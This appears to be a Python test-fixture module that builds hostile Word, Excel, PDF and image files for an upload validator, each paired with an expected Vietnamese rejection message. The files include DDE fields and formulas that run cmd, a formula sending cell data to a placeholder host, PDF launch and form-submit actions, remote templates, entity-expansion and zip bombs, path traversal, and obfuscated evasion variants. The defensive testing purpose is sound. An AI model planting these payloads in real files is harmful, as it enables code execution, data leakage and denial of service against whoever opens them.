"""Files that no office sends: each with what the door says of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.factories.files import EXCEL, office, pdf, picture, relations

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


def _action(**entries: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in entries.items()
        }
    )


def _written(writer: PdfWriter) -> bytes:
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def _with_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    names = ArrayObject([TextStringObject("a"), _action(S="/JavaScript", JS="app.alert(1)")])
    tree = DictionaryObject({NameObject("/Names"): names})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _written(writer)


def _with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("a.exe", b"MZ")
    return _written(writer)


def _locked() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("matkhau")
    return _written(writer)


def _hidden_name() -> bytes:
    """The name of a script with a letter written as a number, in an object that nothing points to."""
    whole = pdf()
    at = whole.index(b"startxref")
    return whole[:at] + b"99 0 obj\n<< /S /J#61vaScript /J#53 (app.alert) >>\nendobj\n" + whole[at:]


def raw_pdf(catalogue: str = "", page: str = "", *objects: bytes) -> bytes:
    """Return a PDF of one page with these entries of its catalogue and of its page; its objects count from 4."""
    bodies = [
        f"<</Type/Catalog/Pages 2 0 R{catalogue}>>".encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{page}>>".encode(),
        *objects,
    ]
    whole, rows = bytearray(b"%PDF-1.7\n"), b"0000000000 65535 f \n"
    for number, body in enumerate(bodies, 1):
        rows += b"%010d 00000 n \n" % len(whole)
        whole += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    size = len(bodies) + 1
    end = b"xref\n0 %d\n%btrailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, rows, size, len(whole))
    return bytes(whole + end)


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


PROGRAM = (b"<</F(a.exe)/EF<</F 5 0 R>>>>", _stream(b"", b"MZ"))


def _unlisted_script() -> bytes:
    """A script among packed objects that the list of the file does not name."""
    packed = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert)>>")
    return raw_pdf("/OpenAction 9 0 R", "", _stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed))


def word_fields(*runs: str) -> bytes:
    """Return a Word file with one field, its instruction in these runs."""
    said = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return office({"word/footnotes.xml": f'<w:document xmlns:w="w"><w:p>{begin}{said}{end}</w:p></w:document>'})


def excel_formula(formula: str, tag: str = "f") -> bytes:
    sheet = f'<worksheet xmlns="x"><row><c><{tag}>{formula}</{tag.split()[0]}></c></row></worksheet>'
    return office({"xl/worksheets/sheet1.xml": sheet}, main=EXCEL)


def _related(kind: str, part: str = "word/a.dat", data: bytes | str = b"x", **said: str) -> bytes:
    return office(
        {part: data, "word/_rels/document.xml.rels": relations(kind, part.partition("/")[2], "Internal")}, **said
    )


def _linked(target: str, mode: str, kind: str = "image") -> bytes:
    return office({"word/_rels/document.xml.rels": relations(kind, target, mode)})


def _linked_between() -> bytes:
    """A picture from afar among what a program may choose from."""
    whole = relations("image", "http://a.example/x.png").replace("<Relationship ", "<mc:Choice><Relationship ")
    inside = whole.replace("</Relationships>", "</mc:Choice></Relationships>").replace(
        "s xmlns=", 's xmlns:mc="m" xmlns=', 1
    )
    return office({"word/_rels/document.xml.rels": inside})


def _typed(kind: str) -> bytes:
    return office({"xl/a.dat": "<x/>"}, main=EXCEL, types=f'<Override PartName="/xl/a.dat" ContentType="{kind}+xml"/>')


def _bomb() -> bytes:
    return office({"word/media.xml": b"0" * 130 * 1024 * 1024})


def _lying_sizes() -> bytes:
    """A part that says it is small, and is not."""
    data = bytearray(office({"word/a.xml": b"<x>" + b"0" * 3_000_000 + b"</x>"}))
    real = struct.pack("<L", 3_000_007)
    return bytes(data.replace(real, struct.pack("<L", 100)))


def _many_entries() -> bytes:
    return office({f"word/{n}.xml": "<x/>" for n in range(2_100)})


def _twice() -> bytes:
    stream = io.BytesIO(office())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("WORD/document.xml", "<x/>")
    return stream.getvalue()


def _png_of(width: int, height: int) -> bytes:
    """A small file that is a huge picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * ((width // 8 + 1) * height), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "nothing": (b"", "Tệp rỗng"),
    "web page": (b"<html><script>alert(1)</script></html>", "không nhận ra"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "không nhận ra"),
    "program": (b"MZ" + b"\0" * 100, "không nhận ra"),
    "old Word": (OLE, "đời cũ"),
    "plain archive": (office(main="application/zip"), "không phải tệp Word hay Excel"),
    "both Word and Excel": (
        office(types=f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}"/>'),
        "không phải tệp Word hay Excel",
    ),
    "entities": (office({"word/styles.xml": LAUGHS}), "DOCTYPE"),
    "entities in UTF-16": (office({"word/styles.xml": LAUGHS.encode("utf-16")}), "DOCTYPE"),
    "entities in relations": (office({"word/_rels/document.xml.rels": LAUGHS}), "DOCTYPE"),
    "macros": (office({"word/vbaProject.bin": OLE}), "macro"),
    "macros by type": (
        office(types='<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "macro",
    ),
    "embedded object": (office({"word/embeddings/oleObject1.bin": OLE}), "đối tượng nhúng"),
    "object under another name": (office({"word/media/image1.png": OLE}), "tệp khác nằm bên trong"),
    "archive inside": (office({"word/media/image1.jpeg": office()}), "tệp khác nằm bên trong"),
    "ActiveX": (office({"word/activeX/activeX1.xml": "<x/>"}), "ActiveX"),
    "template from afar": (
        office({"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://a.example/x.dotm")}),
        "lấy dữ liệu từ ngoài",
    ),
    "template on a share": (
        office({"word/_rels/settings.xml.rels": relations("attachedTemplate", "file://///a.example/x.dotm")}),
        "lấy dữ liệu từ ngoài",
    ),
    "picture from afar": (
        office({"word/_rels/document.xml.rels": relations("image", "http://a.example/x.png")}),
        "lấy dữ liệu từ ngoài",
    ),
    "script as a link": (
        office({"word/_rels/document.xml.rels": relations("hyperlink", "javascript:alert(1)")}),
        "lấy dữ liệu từ ngoài",
    ),
    "linked workbook": (office({"xl/externalLinks/externalLink1.xml": "<x/>"}, main=EXCEL), "bảng tính khác"),
    "data connection": (office({"xl/connections.xml": "<x/>"}, main=EXCEL), "kết nối lấy dữ liệu"),
    "workbook linked under another name": (
        _typed("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink"),
        "bảng tính khác",
    ),
    "connection under another name": (
        _typed("application/vnd.openxmlformats-officedocument.spreadsheetml.connections"),
        "kết nối lấy dữ liệu",
    ),
    "ActiveX under another name": (_typed("application/vnd.ms-office.activeX"), "ActiveX"),
    "macro sheet under another name": (_typed("application/vnd.ms-excel.intlmacrosheet"), "macro"),
    "ActiveX by relation": (_related("control"), "ActiveX"),
    "object by relation": (_related("oleObject"), "đối tượng nhúng"),
    "web page taken in": (_related("aFChunk", "word/a.html", "<html/>"), "đoạn lấy từ tệp khác"),
    "macro sheet by relation": (_related("xlMacrosheet", "word/a.xml", "<x/>"), "macro"),
    "object called text": (office({"word/a.xml": OLE}), "tệp khác nằm bên trong"),
    "archive called a drawing": (office({"word/a.vml": office()}), "tệp khác nằm bên trong"),
    "text that is none": (office({"word/a.xml": b"\0MZ"}), "cấu trúc bất thường"),
    "entities in EBCDIC": (
        office({"word/a.xml": f'<?xml version="1.0" encoding="cp037"?>{LAUGHS}'.encode("cp037")}),
        "cấu trúc bất thường",
    ),
    "entities in EBCDIC, not called text": (
        office({"word/a.dat": f'<?xml version="1.0" encoding="cp037"?>{LAUGHS}'.encode("cp037")}),
        "cấu trúc bất thường",
    ),
    "entities in UTF-7": (
        office({"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x []><x/>'}),
        "cấu trúc bất thường",
    ),
    "encoding far away": (
        office({"word/a.xml": '<?xml version="1.0"' + " " * 2_000 + 'encoding="UTF-7"?><x/>'}),
        "cấu trúc bất thường",
    ),
    "picture from afar, in a choice": (_linked_between, "lấy dữ liệu từ ngoài"),
    "picture from afar, with spaces": (_linked("http://a.example/x.png", " External "), "lấy dữ liệu từ ngoài"),
    "picture from afar, not called so": (_linked("http://a.example/x.png", "Internal"), "lấy dữ liệu từ ngoài"),
    "picture from a share": (_linked("\\\\a.example\\x.png", "Internal"), "lấy dữ liệu từ ngoài"),
    "link to a share": (_linked("//a.example/x", "External", "hyperlink"), "lấy dữ liệu từ ngoài"),
    "link to a Windows share": (_linked("\\\\a.example\\x.exe", "External", "hyperlink"), "lấy dữ liệu từ ngoài"),
    "field that runs": (word_fields(' DDEAUTO cmd "/k calc"'), "trường (field)"),
    "field that runs, in pieces": (word_fields(" D", "DE", " cmd"), "trường (field)"),
    "field that runs, in numbers": (word_fields("&#68;DE cmd"), "trường (field)"),
    "field that runs, with a comment": (word_fields("D<!-- -->DE cmd"), "cấu trúc bất thường"),
    "field that writes a field": (word_fields("QUOTE 68 68 69"), "trường (field)"),
    "field that fetches": (word_fields('INCLUDEPICTURE "http://a.example/x" \\d'), "trường (field)"),
    "field that fetches, plain": (
        office({"word/footnotes.xml": '<d><w:fldSimple w:a=">" w:instr="INCLUDETEXT x"/></d>'}),
        "trường (field)",
    ),
    "field in UTF-16": (
        office({"word/a.xml": "<d><instrText>DDE a</instrText></d>".encode("utf-16")}),
        "trường (field)",
    ),
    "field in text called data": (office({"word/a.dat": "<d><instrText>DDE a</instrText></d>"}), "trường (field)"),
    "letters from a data source": (office({"word/settings.xml": "<w:s><w:mailMerge/></w:s>"}), "trộn thư"),
    "formula that runs": (excel_formula("cmd|'/c calc'!A0"), "công thức"),
    "formula that fetches": (
        excel_formula("_xlfn.WEBSERVICE(&quot;http://a.example/&quot;&amp;A1)", 'f t="a>b"'),
        "công thức",
    ),
    "formula that shows": (excel_formula("_xlfn.IMA&#71;E (A1)"), "công thức"),
    "name that runs": (excel_formula("cmd|'/c calc'!A0", 'definedName name="a"'), "công thức"),
    "bomb": (_bomb, "quá lớn khi mở ra"),
    "sizes that lie": (_lying_sizes, "bị hỏng"),
    "many entries": (_many_entries, "quá lớn khi mở ra"),
    "out of its folder": (office({"../../etc/passwd": "x"}), "bị hỏng"),
    "the same part twice": (_twice, "bị hỏng"),
    "half an archive": (office()[:-60], "bị hỏng"),
    "PDF with a script": (_with_script, "JavaScript"),
    "PDF that launches": (pdf(OpenAction=_action(S="/Launch", F="calc.exe")), "lệnh mở chương trình"),
    "PDF with a file in it": (_with_attachment, "tệp nhúng"),
    "PDF with a hidden script": (_hidden_name, "JavaScript"),
    "PDF that sends": (pdf(OpenAction=_action(S="/SubmitForm", F="http://a.example")), "gửi dữ liệu"),
    "PDF with a program at a page": (
        raw_pdf("", "/Annots[<</Subtype/FileAttachment/FS 4 0 R>>]", *PROGRAM),
        "tệp nhúng",
    ),
    "PDF with a program that belongs to it": (raw_pdf("/AF[4 0 R]", "", *PROGRAM), "tệp nhúng"),
    "PDF of PDFs": (raw_pdf("/Collection<<>>"), "tệp nhúng"),
    "PDF that opens a page": (raw_pdf("/OpenAction<</S/URI/URI(http://a.example/)>>"), "tự mở trang mạng"),
    "PDF that opens a page at last": (
        raw_pdf("/OpenAction<</S/GoTo/Next[4 0 R]>>", "", b"<</S/URI/URI(http://a.example/)>>"),
        "tự mở trang mạng",
    ),
    "PDF that opens a page when read": (raw_pdf("", "/AA<</O<</S/URI/URI(http://a.example/)>>>>"), "tự mở trang mạng"),
    "PDF with a link to a share": (
        raw_pdf("", "/Annots[<</Subtype/Link/A<</S/URI/URI(file://a.example/x.exe)>>>>]"),
        "liên kết mở tệp",
    ),
    "PDF with links from a share": (raw_pdf("/URI<</Base(\\\\\\\\a.example\\\\s)>>"), "liên kết mở tệp"),
    "PDF that reads on elsewhere": (raw_pdf("/OpenAction<</S/Thread/F(x.pdf)>>"), "liên kết đến tệp khác"),
    "PDF with a part elsewhere": (raw_pdf("", "", _stream(b"/F(//a.example/x)", b"")), "liên kết đến tệp khác"),
    "PDF with a part named elsewhere": (
        raw_pdf("", "", _stream(b"/F 5 0 R", b""), b"(//a/x)"),
        "liên kết đến tệp khác",
    ),
    "PDF with a film": (raw_pdf("/OpenAction<</S/Rendition/R<</S/MR>>>>"), "phim"),
    "PDF with a screen": (raw_pdf("", "/Annots[<</Subtype/Screen>>]"), "phim"),
    "PDF with a sound": (raw_pdf("", "/Annots[<</Subtype/Sound/Sound 4 0 R>>]", _stream(b"", b"")), "phim"),
    "PDF with a model": (raw_pdf("", "/Annots[<</Subtype/3D/3DD 4 0 R>>]", _stream(b"", b"")), "3D"),
    "PDF with a packed script": (_unlisted_script, "JavaScript"),
    "locked PDF": (_locked, "mật khẩu"),
    "half a PDF": (pdf()[:200], "bị hỏng"),
    "PDF in name only": (b"%PDF-1.7\n" + b"x" * 2_000, "bị hỏng"),
    "PDF of 1,001 pages": (lambda: pdf(1_001), "tách thành nhiều tệp"),
    "huge picture": (lambda: _png_of(13_000, 13_000), "quá lớn"),
    "picture of no size": (_png_of(1, 1)[:40], "bị hỏng"),
    "half a picture": (picture("JPEG", (400, 400))[:500], "bị hỏng"),
}
